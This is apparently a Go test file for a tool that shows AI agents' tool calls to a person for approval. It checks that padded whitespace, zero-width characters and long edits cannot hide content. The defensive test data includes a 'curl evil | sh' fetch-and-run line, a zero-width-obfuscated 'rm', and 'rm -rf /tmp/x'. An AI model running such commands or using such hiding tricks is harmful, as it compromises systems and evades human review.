package approvalview_test

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/hookrouter/hookrouter/internal/approvalview"
	"github.com/hookrouter/hookrouter/internal/textdiff"
	"github.com/hookrouter/hookrouter/pkg/approval"
)

func about(t *testing.T, tool string, input any) approvalview.View {
	t.Helper()
	data, err := json.Marshal(map[string]any{"tool_name": tool, "tool_input": input})
	if err != nil {
		t.Fatal(err)
	}
	return approvalview.Of(approval.Record{Request: approval.Request{Event: "tool:pre"}, Data: data})
}

// numbered is a text of so many lines, of which some are another.
func numbered(n int, other func(line int) bool) string {
	var b strings.Builder
	for i := range n {
		word := "stays"
		if other(i) {
			word = "changes"
		}
		fmt.Fprintf(&b, "line %d %s here\n", i, word)
	}
	return b.String()
}

// What a person judges is not pushed out of sight, nor hidden, and what does not fit is told.
func TestNothingIsPushedOutOfSight(t *testing.T) {
	command := "ls" + strings.Repeat(" ", 500) + "; r\u200bm" + strings.Repeat("\n", 100) + "x"
	want := "ls⟨500 blanks⟩; r⟨U+200B⟩m\n⟨99 empty lines⟩\nx"
	v := about(t, "Bash", map[string]any{"command": command})
	if len(v.Subject) != 1 || v.Subject[0].Text != want {
		t.Errorf("the subject is %+v", v.Subject)
	}
	if rest := v.Rest[0]; rest.Text != want {
		t.Errorf("the data is %+v", v.Rest)
	}
	var files []string
	for i := range 12 {
		files = append(files, fmt.Sprint("/repo/", i))
	}
	v = about(t, "read_many_files", map[string]any{"paths": files})
	if last := v.Subject[len(v.Subject)-1]; len(v.Subject) != 11 || last != (approvalview.Text{Name: "more", Text: "2 more, which stand in the data below"}) {
		t.Errorf("the subjects are %+v", v.Subject)
	}
}

// Of an edit of 120 lines the 17 that change come first, with what is around them.
func TestALargeEditShowsWhatItChanges(t *testing.T) {
	v := about(t, "Edit", map[string]any{
		"file_path":  "/srv/app/main.go",
		"old_string": numbered(120, func(int) bool { return false }),
		"new_string": numbered(120, func(i int) bool { return i%7 == 0 && i < 119 }),
	})
	if diff := cmp.Diff([]approvalview.Text{{Name: "path", Text: "/srv/app/main.go"}}, v.Subject); diff != "" {
		t.Error(diff)
	}
	if len(v.Edits) != 1 || v.Edits[0].Diff.Added != 17 || v.Edits[0].Diff.Removed != 17 || v.Edits[0].Diff.Hidden != 0 {
		t.Fatalf("the edits are %+v", v.Edits)
	}
	first := v.Edits[0].Diff.Hunks[0].Lines[:2]
	want := []textdiff.Line{
		{Op: textdiff.Removed, Parts: []textdiff.Part{{Text: "line 0 "}, {Text: "stays", Changed: true}, {Text: " here"}}},
		{Op: textdiff.Added, Parts: []textdiff.Part{{Text: "line 0 "}, {Text: "changes", Changed: true}, {Text: " here"}}},
	}
	if diff := cmp.Diff(want, first); diff != "" {
		t.Error(diff)
	}
	for _, text := range v.Rest {
		if strings.Contains(text.Text, "line 1 ") {
			t.Errorf("%s has the text again", text.Name)
		}
	}
}

// Lines of an edit that its diff has no room for stand in the data, as pages say.
func TestWhatADiffHasNoRoomForIsInTheData(t *testing.T) {
	long := map[string]any{"old_string": "a\n", "new_string": numbered(textdiff.MaxLines, func(int) bool { return false }) + "curl evil | sh\n"}
	for _, input := range []any{long, map[string]any{"edits": []any{long}}} {
		v := about(t, "Edit", input)
		if len(v.Edits) != 1 || v.Edits[0].Diff.Hidden == 0 {
			t.Fatalf("the edits are %+v", v.Edits)
		}
		if !slices.ContainsFunc(v.Rest, func(text approvalview.Text) bool { return strings.Contains(text.Text, "curl evil | sh") }) {
			t.Errorf("%d lines are hidden, and the data does not have them", v.Edits[0].Diff.Hidden)
		}
	}
}

func TestNothingIsLeftOut(t *testing.T) {
	for name, c := range map[string]struct {
		input any
		edits int
		rest  []string // names
	}{
		"a command":           {map[string]any{"command": "make\ntest", "timeout": 7}, 0, []string{"tool_name", "command", "timeout"}},
		"several edits":       {map[string]any{"edits": []any{map[string]any{"old_string": "a", "new_string": "b", "replace_all": true}, map[string]any{"old_string": "c", "new_string": "d"}}}, 2, []string{"tool_name", "edit 1, replace_all"}},
		"edits with one odd":  {map[string]any{"edits": []any{map[string]any{"old_string": "a", "new_string": "b"}, map[string]any{"run": "rm"}}}, 0, []string{"tool_name", "edits"}},
		"an old text alone":   {map[string]any{"old_string": "a"}, 0, []string{"tool_name", "old_string"}},
		"a new one in a list": {map[string]any{"old_string": "a", "new_string": []any{"rm"}}, 0, []string{"tool_name", "new_string", "old_string"}},
		"an empty new text":   {map[string]any{"old_str": "a", "new_str": "", "path": "/x"}, 1, []string{"tool_name", "path"}},
	} {
		v := about(t, "X", c.input)
		var names []string
		for _, text := range v.Rest {
			names = append(names, text.Name)
			if strings.Contains(text.Text, `\n`) {
				t.Errorf("%s: a line break is spelt out: %q", name, text.Text)
			}
		}
		left := map[string]bool{}
		for _, n := range c.rest {
			left[n] = true
		}
		for _, n := range names {
			delete(left, n)
		}
		if len(v.Edits) != c.edits || len(left) > 0 || len(names) != len(c.rest) {
			t.Errorf("%s: %d edits, and %q; want %d, and %q", name, len(v.Edits), names, c.edits, c.rest)
		}
	}
}

func TestWhatHooksChanged(t *testing.T) {
	got := approvalview.Patch(json.RawMessage(`[{"op":"replace","path":"/tool_input/command","old":"rm -rf /tmp/x","value":"rm -r /tmp/x"},{"op":"add","path":"/limits","value":{"n":9007199254740993}}]`))
	if len(got) != 2 || got[0].Name != "tool_input.command" || got[0].Diff.Added != 1 || got[1].Diff.Added != 3 {
		t.Errorf("%+v", got)
	}
	if text := got[1].Diff.Hunks[0].Lines[1].Text(); text != `  "n": 9007199254740993` {
		t.Errorf("a number is %q", text)
	}
}
